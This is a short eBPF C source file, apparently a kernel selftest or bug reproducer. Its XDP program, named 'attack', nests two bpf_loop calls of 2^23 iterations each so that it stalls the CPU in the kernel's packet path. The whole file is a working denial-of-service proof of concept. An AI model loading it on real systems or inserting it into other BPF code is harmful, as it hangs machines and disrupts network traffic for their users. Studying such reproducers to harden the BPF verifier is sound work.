// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>

static long inner(u32 index, void *data)
{
	return 0;
}

static long outer(u32 index, void *data)
{
	bpf_loop(1 << 23, inner, 0, 0);
	return 0;
}

SEC("xdp")
int attack(struct xdp_md *ctx)
{
	bpf_loop(1 << 23, outer, 0, 0);
	return XDP_PASS;
}

char LICENSE[] SEC("license") = "GPL";
